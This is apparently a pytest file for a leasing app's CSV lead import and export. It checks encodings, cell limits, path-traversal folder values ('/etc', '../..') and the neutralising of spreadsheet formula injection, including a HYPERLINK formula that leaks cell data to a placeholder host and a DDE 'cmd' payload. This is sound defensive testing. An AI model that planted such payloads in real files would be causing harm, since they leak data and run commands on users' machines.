"""CSV import answers per row and never aborts, on files written the way Excel and LibreOffice write them."""

from __future__ import annotations

import codecs
from pathlib import Path

from leaselab_desktop.backends.intake import import_folder
from leaselab_desktop.backends.local import LocalBackend
from leaselab_desktop.domain.models import LeadQuery
from tests.faults.file_keyring import subprocess_env, use_in_this_process

HEADER = ["first_name", "last_name", "email", "property", "monthly_income", "employment_status", "message", "folder"]


def _csv(rows: list[list[str]], sep: str = ",") -> str:
    """Rows quoted as Excel quotes them: a cell with the separator, a quote or a line break is quoted."""
    def cell(v: str) -> str:
        if any(ch in v for ch in (sep, '"', "\r", "\n")):
            return '"' + v.replace('"', '""') + '"'
        return v
    return "".join(sep.join(cell(v) for v in row) + "\r\n" for row in [HEADER, *rows])


async def _prop(backend: LocalBackend) -> str:
    return (await backend.list_properties())[0].name


def _docs(folder: Path, name: str) -> None:
    (folder / name).mkdir(parents=True)
    (folder / name / "paystub-oct.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")


async def test_big_cells_are_read_and_only_rows_over_1_mib_refused(backend: LocalBackend, tmp_path: Path) -> None:
    prop = await _prop(backend)
    rows = [[f"P{i}", "Lee", f"p{i}@example.com", prop, "5000", "employed", "", ""] for i in range(20)]
    rows[3][6] = "x" * (200 * 1024)  # 200 KiB: over csv's default 128 KiB limit, under ours
    rows[7][6] = "y" * (1536 * 1024)  # 1.5 MiB
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "leads.csv").write_bytes(_csv(rows).encode("utf-8"))
    report = await import_folder(backend, folder)
    assert len(report.imported) == 19
    assert report.refused_rows == [(9, "the message cell is 1.5 MiB; cells over 1 MiB are not imported")]


async def test_line_breaks_inside_cells_stay_in_their_cell(backend: LocalBackend, tmp_path: Path) -> None:
    prop = await _prop(backend)
    folder = tmp_path / "in"
    for name in ("ana", "bo", "cy"):
        _docs(folder, name)
    rows = [
        ["Ana", "Lima", "ana@example.com", prop, "6000", "employed", "pasted from Word\u2028second line", "ana"],
        ["Bo", "Ng", "bo@example.com", prop, "5000", "employed", "Excel cell\x0bwith a vertical tab", "bo"],
        ["Cy", "Ro", "cy@example.com", prop, "4000", "employed", "two\r\nlines", "cy"],
        ["Di", "Xu", "not-an-email", prop, "4000", "employed", "", ""],
    ]
    (folder / "leads.csv").write_bytes(_csv(rows).encode("utf-8"))
    report = await import_folder(backend, folder)
    assert [(r, name) for r, _, name in report.imported] == [(2, "Ana Lima"), (3, "Bo Ng"), (4, "Cy Ro")]
    assert [r for r, _ in report.refused_rows] == [5]  # row numbers are not shifted by the line breaks
    assert len(report.files) == 3  # each row kept its folder, so its documents attached
    messages = {(await backend.get_lead(lid)).first_name: (await backend.get_lead(lid)).message
                for _, lid, _ in report.imported}
    assert "\u2028" in (messages["Ana"] or "") and "second line" in (messages["Ana"] or "")
    assert "two" in (messages["Cy"] or "") and "lines" in (messages["Cy"] or "")


async def test_excel_encodings_are_detected_and_named(backend: LocalBackend, tmp_path: Path) -> None:
    prop = await _prop(backend)

    def rows(tag: str) -> list[list[str]]:
        return [["Zoë", "Brontë", f"zoe@{tag}.example", prop, "5000", "employed", "Rent €1,200 – “soon”", ""],
                ["José", "Núñez", f"jose@{tag}.example", prop, "4800", "employed", "", ""]]

    cases = {
        "cp1252": (_csv(rows("a")).encode("cp1252"), "Windows-1252"),
        "utf8-bom": (codecs.BOM_UTF8 + _csv(rows("b")).encode("utf-8"), "UTF-8 with BOM"),
        "utf8": (_csv(rows("c")).encode("utf-8"), "as UTF-8"),
        # Excel's "Unicode text": UTF-16 LE with a BOM, tab-separated, CRLF
        "utf16": (codecs.BOM_UTF16_LE + _csv(rows("d"), "\t").encode("utf-16-le"), "UTF-16"),
    }
    for name, (data, shown) in cases.items():
        folder = tmp_path / name
        folder.mkdir()
        (folder / "leads.csv").write_bytes(data)
        report = await import_folder(backend, folder)
        assert [n for _, _, n in report.imported] == ["Zoë Brontë", "José Núñez"], (name, report.lines())
        assert shown in "\n".join(report.lines()), name


async def test_folder_outside_import_folder_is_refused_in_one_line(backend: LocalBackend, tmp_path: Path) -> None:
    prop = await _prop(backend)
    folder = tmp_path / "in"
    folder.mkdir()
    rows = [["Ana", "Lima", "ana@example.com", prop, "6000", "employed", "", "/etc"],
            ["Bo", "Ng", "bo@example.com", prop, "6000", "employed", "", "../.."]]
    (folder / "leads.csv").write_bytes(_csv(rows).encode("utf-8"))
    report = await import_folder(backend, folder)
    assert len(report.imported) == 2 and not report.files
    assert [p for p, _ in report.refused_files] == ["/etc", "../.."]
    assert all("outside the import folder" in why for _, why in report.refused_files)
    assert "passwd" not in "\n".join(report.lines())


async def test_nan_inf_and_duplicate_emails(backend: LocalBackend, tmp_path: Path) -> None:
    prop = await _prop(backend)
    existing = (await backend.list_leads(LeadQuery(limit=1))).items[0].email
    folder = tmp_path / "in"
    folder.mkdir()
    rows = [["A", "A", "a@example.com", prop, "NaN", "employed", "", ""],
            ["B", "B", "b@example.com", prop, "inf", "employed", "", ""],
            ["C", "C", "c@example.com", prop, "1e999", "employed", "", ""],
            ["D", "D", "d@example.com", prop, "4000", "employed", "", ""],
            ["E", "E", "D@Example.com", prop, "4000", "employed", "", ""],
            ["F", "F", existing, prop, "4000", "employed", "", ""]]
    (folder / "leads.csv").write_bytes(_csv(rows).encode("utf-8"))
    report = await import_folder(backend, folder)
    reasons = dict(report.refused_rows)
    assert all("not a number" in reasons[r] for r in (2, 3, 4))
    assert "already on row 5" in reasons[6]
    assert [r for r, _, _ in report.imported] == [5, 7]
    assert report.notes and report.notes[0][0] == 7 and "already existed" in report.notes[0][1]


async def test_exported_csv_neutralises_formulas(tmp_path: Path) -> None:
    """A name that a spreadsheet would run comes back out as text, and reads back as it went in."""
    import asyncio
    import csv
    import io
    import subprocess
    import sys

    from leaselab_desktop.config import Paths

    use_in_this_process(tmp_path / "keys.json")  # the CLI subprocess reads the same keyring
    backend = await LocalBackend.open(Paths(tmp_path / "export-data"))
    prop = await _prop(backend)
    folder = tmp_path / "in"
    folder.mkdir()
    evil = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    rows = [[name, "Doe", f"e{i}@example.com", prop, "4000", "employed", "", ""] for i, name in enumerate(evil)]
    (folder / "leads.csv").write_bytes(_csv(rows).encode("utf-8"))
    assert len((await import_folder(backend, folder)).imported) == len(evil)
    data_dir = backend.paths.data_dir
    await backend.aclose()
    proc = await asyncio.to_thread(subprocess.run, [sys.executable, "-m", "leaselab_desktop", "--data-dir",
                                   str(data_dir), "leads", "--csv"], capture_output=True, text=True, timeout=120,
                                   env=subprocess_env(tmp_path / "keys.json"))
    assert proc.returncode == 0, proc.stderr
    # the list's columns (LEAD_LIST): "Name" is first and last name, as the list shows it
    exported = {r["Email"]: r["Name"] for r in csv.DictReader(io.StringIO(proc.stdout))}
    for i, name in enumerate(evil):
        cell = exported[f"e{i}@example.com"]
        assert cell == "'" + name + " Doe"  # the apostrophe: text, not a formula
    assert exported["e0@example.com"] != evil[0] + " Doe"


def test_spreadsheet_safe() -> None:
    from leaselab_desktop.reports.spreadsheet import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("\tx", "\rx", "=1", "Ana", -5, 3.5, "")] == [
        "'\tx", "'\rx", "'=1", "Ana", -5, 3.5, ""]
